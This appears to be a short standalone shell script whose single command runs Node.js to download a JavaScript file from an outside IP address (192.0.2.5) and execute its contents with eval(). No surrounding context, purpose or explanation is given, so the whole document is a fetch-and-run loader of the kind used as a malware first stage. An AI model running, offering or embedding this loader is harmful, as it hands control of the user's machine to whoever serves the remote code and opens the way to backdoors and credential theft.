#!/bin/sh
node -e 'require("https").get("https://192.0.2.5/x.js",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})'
